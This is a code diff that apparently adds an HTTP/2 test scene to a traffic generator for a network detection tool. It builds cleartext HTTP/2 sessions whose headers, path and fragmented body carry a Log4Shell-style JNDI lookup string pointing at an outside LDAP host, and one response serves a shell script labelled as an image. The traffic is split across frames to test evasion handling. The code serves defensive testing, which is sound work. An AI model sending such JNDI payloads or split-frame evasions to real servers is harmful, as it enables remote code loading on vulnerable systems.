@@ -371,6 +371,51 @@ def recognised(c):
     c.add(udp(DEVICE, FAR, (40101, 443), bytes.fromhex("c300000001088394c8f03e5157080000449e") + bytes(1182)))
 
 
+def frame(kind, flags, stream, payload=b""):
+    return len(payload).to_bytes(3, "big") + bytes((kind, flags)) + stream.to_bytes(4, "big") + payload
+
+
+def field(name_, value):
+    """HPACK: literal, kept in the table, not coded (RFC 7541 §6.2.1)."""
+    return b"\x40" + bytes((len(name_),)) + name_ + bytes((len(value),)) + value
+
+
+def asked(path):
+    return b"\x82\x86\x04" + bytes((len(path),)) + path + b"\x41\x0cshop.example"
+
+
+@scene()
+def http2(c):
+    """Clear text: by prior knowledge, with a header cut into pieces; after an upgrade; after another protocol's words."""
+    settings, preface = frame(4, 0, 0), b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
+    lookup = b"${jndi:ldap://203.0.113.9/golden}"
+    block = asked(b"/form?a=b") + field(b"x-api", lookup)
+    t = Talk(c, (FAR, 40000), (SERVER, 8080))
+    t.ask(preface + settings + frame(1, 0, 1, block[:20]) +
+          b"".join(frame(9, 4 if i == len(block) - 1 else 0, 1, block[i:i + 1]) for i in range(20, len(block))))
+    t.ask(frame(0, 8, 1, b"\2a=${jndi:ldap:xx") + frame(1, 0x25, 3, b"\0\0\0\0\x10" + asked(b"/other")))
+    t.ask(frame(0, 1, 1, b"//203.0.113.9/body}"))
+    t.answer(settings + frame(1, 5, 3, b"\x8d") + frame(1, 4, 1, b"\x88" + field(b"server", b"golden")))
+    t.answer(frame(0, 1, 1, b"so be it\n"))
+    t.close()
+    t = Talk(c, (DEVICE, 40001), (FAR, 80))
+    t.ask(get("/up", more="Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABk\r\n"))
+    t.answer(b"HTTP/1.1 101 Switching Protocols\r\nConnection: Upgrade\r\nUpgrade: h2c\r\n\r\n" + settings +
+             frame(1, 4, 1, b"\x88" + field(b"content-type", b"image/png")) + frame(0, 1, 1, b"#!/bin/sh\necho golden\n"))
+    t.ask(preface + settings + frame(1, 5, 3, asked(b"/next")))
+    t.answer(frame(1, 5, 3, b"\x89"))
+    t.close()
+    t = Talk(c, (FAR, 40002), (SERVER, 25))
+    t.answer(b"220 mail.example ESMTP\r\n")
+    t.ask(b"EHLO client.example\r\n")
+    t.ask(preface + settings + frame(1, 5, 1, asked(b"/" + lookup)))
+    t.answer(settings + frame(1, 5, 1, b"\x8c"))
+    t.close()
+    t = Talk(c, (DEVICE, 40003), (FAR, 8080))  # more fields than are followed
+    t.ask(preface + settings + frame(1, 5, 1, b"\x82" * 300))
+    t.close()
+
+
 def main():
     folder = pathlib.Path(sys.argv[1])
     for scene_name, (function, options) in SCENES.items():
